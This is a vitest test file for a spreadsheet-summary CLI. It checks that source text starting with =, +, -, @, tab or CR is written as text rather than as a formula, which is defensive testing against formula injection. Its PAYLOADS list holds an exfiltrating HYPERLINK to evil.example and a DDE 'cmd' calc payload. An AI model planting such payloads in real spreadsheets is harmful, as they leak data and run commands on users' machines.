import { Workbook, ValueType, type Worksheet } from "exceljs";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { main } from "../../scripts/cli/cli";
import { unzip } from "../../scripts/fuzz/zip";

/**
 * docs/rules.md: text from the source that begins with =, +, -, @ (or a tab or CR before them) is written to the
 * summary as text, never as a formula. Checked end to end: `coma summary` on a source, output loaded with exceljs.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
  "+84 912 345 678",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=cmd|' /C calc'!A0",
];
const SHEET = `=Chỉ "tiêu" của 'xã' 2027`;

let dir: string;
let output: Workbook;
let summary: Worksheet;
let summaryXml: string;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "coma-injection-"));
  const source = new Workbook();
  const sheet = source.addWorksheet(SHEET);
  sheet.addRow(["Mã", "Chỉ tiêu", "ĐVT", "Cơ sở 2025", "Mục tiêu 2030", 2026, 2027]);
  PAYLOADS.forEach((payload, i) => {
    sheet.addRow([`KT${i + 1}`, payload, "%", 10, "≥ 50", 20, 30]); // in the name
    sheet.addRow([`XH${i + 1}`, "Chỉ tiêu", payload, 10, "≥ 50", 20, 30]); // in the unit
    sheet.addRow([`XD${i + 1}`, "Chỉ tiêu", "%", 10, payload, 20, 30]); // in the target
  });
  const input = path.join(dir, "nguon.xlsx");
  await source.xlsx.writeFile(input);
  const out = path.join(dir, "tong-hop.xlsx");
  const code = await silently(() => main(["summary", input, "-o", out, "--year", "2027"]));
  expect(code).toBe(0);
  output = new Workbook();
  await output.xlsx.readFile(out);
  summary = output.worksheets.find((s) => s.name.startsWith("Tổng hợp BTV"))!;
  const index = output.worksheets.indexOf(summary) + 1;
  summaryXml = unzip(fs.readFileSync(out)).get(`xl/worksheets/sheet${index}.xml`)!.toString("utf8");
});

afterAll(() => dir && fs.rmSync(dir, { recursive: true, force: true }));

async function silently(run: () => Promise<number>): Promise<number> {
  const mute = () => vi.fn(() => true) as unknown as typeof process.stdout.write;
  const spies = [
    vi.spyOn(process.stdout, "write").mockImplementation(mute()),
    vi.spyOn(process.stderr, "write").mockImplementation(mute()),
  ];
  const today = process.env.COMA_TODAY;
  process.env.COMA_TODAY = "2027-12-15";
  try {
    return await run();
  } finally {
    for (const spy of spies) spy.mockRestore();
    if (today === undefined) delete process.env.COMA_TODAY;
    else process.env.COMA_TODAY = today;
  }
}

/** Every cell of a sheet with its value. */
function cells(sheet: Worksheet): { address: string; type: ValueType; value: unknown }[] {
  const all: { address: string; type: ValueType; value: unknown }[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => all.push({ address: cell.address, type: cell.type, value: cell.value })));
  return all;
}

/** Core trims what it reads (the summary gets `=1+1` for `\t=1+1`), and XML turns a lone CR into LF. */
const sameText = (a: unknown, b: string) => typeof a === "string" && a.replace(/\r\n?/g, "\n").trim() === b.replace(/\r\n?/g, "\n").trim();

describe("text that looks like a formula, in the summary", () => {
  it.each(PAYLOADS.map((p) => [JSON.stringify(p), p]))("should write %s as a text cell wherever it appears", (_, payload) => {
    const hits = cells(summary).filter((c) => sameText(c.value, payload));
    expect(hits.length).toBeGreaterThanOrEqual(3); // name, unit and target of the detail table
    for (const hit of hits) expect([ValueType.String, ValueType.SharedString]).toContain(hit.type);
  });

  it("should hold no formula but the links of the Mã column, each a single HYPERLINK to the source sheet", () => {
    const formulas = cells(summary).filter((c) => c.type === ValueType.Formula);
    expect(formulas.length).toBeGreaterThanOrEqual(PAYLOADS.length * 3);
    const quoted = SHEET.replace(/'/g, "''").replace(/"/g, '""');
    for (const f of formulas) {
      const { formula, result } = f.value as { formula: string; result: unknown };
      expect(result).toMatch(/^(KT|XH|XD)\d+$/);
      expect(formula).toMatch(new RegExp(`^HYPERLINK\\("#'${escape(quoted)}'!A\\d+","${result}"\\)$`));
    }
  });

  it("should put no payload inside a formula of the sheet's XML", () => {
    const formulas = [...summaryXml.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]);
    for (const f of formulas) expect(f).toMatch(/^HYPERLINK\(/);
    for (const payload of ["evil.example", "SUM(A1:A9)", "cmd|", "1+1", "84 912"])
      for (const f of formulas) expect(f).not.toContain(payload);
  });

  it("should keep the payloads of the source sheet as text too", () => {
    const source = output.getWorksheet(SHEET)!;
    const hits = cells(source).filter((c) => PAYLOADS.some((p) => sameText(c.value, p)));
    expect(hits).toHaveLength(PAYLOADS.length * 3);
    for (const hit of hits) expect([ValueType.String, ValueType.SharedString]).toContain(hit.type);
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
